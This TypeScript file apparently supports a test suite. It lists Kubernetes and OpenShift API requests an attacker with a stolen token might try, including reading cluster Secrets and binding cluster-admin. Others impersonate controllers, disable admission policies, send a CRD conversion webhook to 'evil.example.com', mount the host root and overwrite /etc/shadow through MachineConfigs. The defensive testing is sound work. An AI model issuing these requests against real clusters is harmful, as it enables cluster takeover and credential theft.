/** Attacks with a stolen token. */

import { meta } from '../support/meta.ts';
import { type Attack, applied, at, changed, made, read, reallyMade, removed } from './rights-requests.ts';

const RBAC = 'rbac.authorization.k8s.io/v1';
const MACHINES = 'machineconfiguration.openshift.io/v1';
const ALL = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
const thief = { kind: 'ServiceAccount', name: 'thief', namespace: 'default' };

/** Names of objects of ours that stand in the cluster: who may write one of them tries to. */
export interface Present {
  readonly policies: readonly string[];
  readonly policyBindings: readonly string[];
  readonly roles: readonly string[];
}

/** Namespaces with accounts or Secrets that are worth something. */
export const NAMESPACES: readonly string[] = [
  'kube-system',
  'default',
  'openshift-config',
  'clusters-guest',
  'pullwright-system',
  'hyperfleet-system',
];

/** Secret in each of {@link NAMESPACES}. */
export const FOREIGN = 'of-others';

function ofNamespace(namespace: string): readonly Attack[] {
  const token = {
    ...meta('v1 Secret', {
      name: 'thief',
      namespace,
      annotations: { 'kubernetes.io/service-account.name': 'default' },
    }),
    type: 'kubernetes.io/service-account-token',
  };
  const pod = {
    serviceAccountName: namespace === 'kube-system' ? 'clusterrole-aggregation-controller' : 'default',
    // Satisfies the restricted level of PodSecurity, so that only our policies can deny it.
    securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'a',
        image: 'registry.example.com/evil',
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
      },
    ],
  };
  const template = { metadata: { labels: { a: 'b' } }, spec: pod };
  const spec = { selector: { matchLabels: { a: 'b' } }, template };
  const job = { template: { spec: { ...pod, restartPolicy: 'Never' } } };
  const whole = (kind: string) => meta(kind, { name: 'thief', namespace });
  return [
    read('get', at('secrets', namespace, FOREIGN)),
    read('list', at('secrets', namespace)),
    made(at('secrets', namespace), token),
    applied(at('secrets', namespace, 'thief'), token),
    changed(at('secrets', namespace, FOREIGN), { data: null }),
    removed(at('secrets', namespace, FOREIGN)),
    // A real request: the one account that creates pods may only do so in a dry run.
    reallyMade(at('pods', namespace), { ...whole('v1 Pod'), spec: pod }),
    ...['Deployment', 'DaemonSet', 'StatefulSet'].map((kind) =>
      made(at(`apps/v1 ${kind.toLowerCase()}s`, namespace), { ...whole(`apps/v1 ${kind}`), spec }),
    ),
    made(at('batch/v1 jobs', namespace), { ...whole('batch/v1 Job'), spec: job }),
    made(at('batch/v1 cronjobs', namespace), {
      ...whole('batch/v1 CronJob'),
      spec: { schedule: '* * * * *', jobTemplate: { spec: job } },
    }),
    changed(
      { ...at('namespaces', undefined, namespace), namespace },
      { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
    ),
    made(at('serviceaccounts/token', namespace, 'default'), {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: {},
    }),
    changed(at('serviceaccounts', namespace, 'default'), { secrets: [{ name: 'thief' }] }),
    read('get', at('pods/exec', namespace, 'a')),
    read('get', at('pods/portforward', namespace, 'a')),
    changed(at('pods/ephemeralcontainers', namespace, 'a'), {}),
    made(at('pods/eviction', namespace, 'a'), meta('policy/v1 Eviction', { name: 'a', namespace })),
    removed(at('pods', namespace, 'a')),
    applied(at('configmaps', namespace, 'aws-auth'), meta('v1 ConfigMap', { name: 'aws-auth', namespace })),
    ...['cluster-admin', 'admin', 'edit'].map((role) => bound(namespace, 'thief', role)),
    made(at(`${RBAC} roles`, namespace), { ...whole(`${RBAC} Role`), rules: ALL }),
  ];
}

function bound(namespace: string | undefined, name: string, role: string): Attack {
  const kind = namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding';
  return applied(at(`${RBAC} ${kind.toLowerCase()}s`, namespace, name), {
    apiVersion: RBAC,
    kind,
    metadata: { name, namespace },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
    subjects: [thief],
  });
}

/** Identities with all or many rights. */
const IMPERSONATED: readonly (readonly [kind: string, namespace: string | undefined, name: string])[] = [
  ['users', undefined, 'system:kube-controller-manager'],
  ['serviceaccounts', 'kube-system', 'clusterrole-aggregation-controller'],
  ['serviceaccounts', 'pullwright-system', 'pullwright-reconciler'],
];

/** Secrets that accounts of ours read by name. */
const NAMED_SECRETS = [
  ['openshift-config', 'pull-secret'],
  ['kube-system', 'additional-pull-secret'],
  ['clusters-guest', 'pull-secret'],
  ['clusters-guest', 'pullwright-kubeconfig'],
  ['clusters-guest', 'admin-kubeconfig'],
] as const;

/** Bindings that accounts of ours write by name. */
const BINDINGS = [
  [undefined, 'global-pull-secret-syncer'],
  ['kube-system', 'global-pull-secret-syncer'],
  ['openshift-config', 'global-pull-secret-syncer'],
  ['kube-system', 'pullsecret-adapter-job'],
  ['clusters-guest', 'pullsecret-adapter-job'],
] as const;

function ofCluster({ policies, policyBindings, roles }: Present): readonly Attack[] {
  const admission = 'admissionregistration.k8s.io/v1';
  const guard = (resource: string, name: string, spec: object): readonly Attack[] => [
    removed(at(`${admission} ${resource}`, undefined, name)),
    changed(at(`${admission} ${resource}`, undefined, name), { spec }),
  ];
  const webhook = { clientConfig: { url: 'https://evil.example.com/' }, conversionReviewVersions: ['v1'] };
  const file = { path: '/etc/shadow', contents: { source: 'data:,' } };
  return [
    ...policies.flatMap((name) => guard('validatingadmissionpolicies', name, { validations: [] })),
    ...policyBindings.flatMap((name) =>
      guard('validatingadmissionpolicybindings', name, { validationActions: ['Audit'] }),
    ),
    ...['cluster-admin', 'admin', 'edit', 'system:controller:clusterrole-aggregation-controller'].map(
      (role) => bound(undefined, 'thief', role),
    ),
    ...[...roles, 'thief'].map((name) =>
      applied(at(`${RBAC} clusterroles`, undefined, name), {
        ...meta(`${RBAC} ClusterRole`, { name }),
        rules: ALL,
      }),
    ),
    ...IMPERSONATED.map(
      ([kind, namespace, name]): Attack => ({
        ...at(kind, namespace, name),
        verb: 'impersonate',
        method: 'GET',
        path: '/api/v1/secrets',
        as: namespace === undefined ? name : `system:serviceaccount:${namespace}:${name}`,
      }),
    ),
    ...NAMED_SECRETS.map(([namespace, name]) => read('get', at('secrets', namespace, name))),
    ...BINDINGS.map(([namespace, name]) => bound(namespace, name, 'cluster-admin')),
    ...['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
      removed(at(`${admission} ${resource}`, undefined, 'pullwright-pull-secret-injection')),
    ),
    changed(at(`${admission} mutatingwebhookconfigurations`, undefined, 'pullwright-webhook'), {}),
    made(
      at(`${admission} mutatingwebhookconfigurations`),
      meta(`${admission} MutatingWebhookConfiguration`, { name: 'thief' }),
    ),
    made(
      at(`${admission} validatingadmissionpolicies`),
      meta(`${admission} ValidatingAdmissionPolicy`, { name: 'thief' }),
    ),
    changed(at('certificates.k8s.io/v1 certificatesigningrequests/approval', undefined, 'thief'), {}),
    made(at('apiregistration.k8s.io/v1 apiservices'), {}),
    changed(
      at('apiextensions.k8s.io/v1 customresourcedefinitions', undefined, 'pullstatuses.pullwright.dev'),
      { spec: { conversion: { strategy: 'Webhook', webhook } } },
    ),
    made(at('persistentvolumes'), {
      ...meta('v1 PersistentVolume', { name: 'thief' }),
      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
    }),
    read('get', at('nodes/proxy', undefined, 'n1')),
    changed(at('nodes', undefined, 'n1'), { spec: { unschedulable: true } }),
    changed(at('nodes/status', undefined, 'n1'), { status: {} }),
    removed(at('nodes', undefined, 'n1')),
    ...['99-thief', '97-worker-generated-credentialproviderconfig'].map((name) =>
      applied(at(`${MACHINES} machineconfigs`, undefined, name), {
        ...meta(`${MACHINES} MachineConfig`, {
          name,
          labels: { 'machineconfiguration.openshift.io/role': 'worker' },
        }),
        spec: { config: { ignition: { version: '3.5.0' }, storage: { files: [file] } } },
      }),
    ),
    // HyperShift applies the MachineConfig in such ConfigMaps to the nodes of a hosted cluster.
    ...[
      ['clusters', 'guest-crio-credential-provider'],
      ['clusters-guest', 'registry-overrides'],
    ].map(([namespace = '', name = '']) =>
      applied(at('configmaps', namespace, name), {
        ...meta('v1 ConfigMap', {
          name,
          namespace,
          labels: { 'hypershift.openshift.io/core-ignition-config': 'true' },
        }),
        data: { config: 'kind: MachineConfig' },
      }),
    ),
    read('list', at('secrets')),
  ];
}

/** The whole table. */
export function attacksOn(present: Present): readonly Attack[] {
  return [...NAMESPACES.flatMap(ofNamespace), ...ofCluster(present)];
}
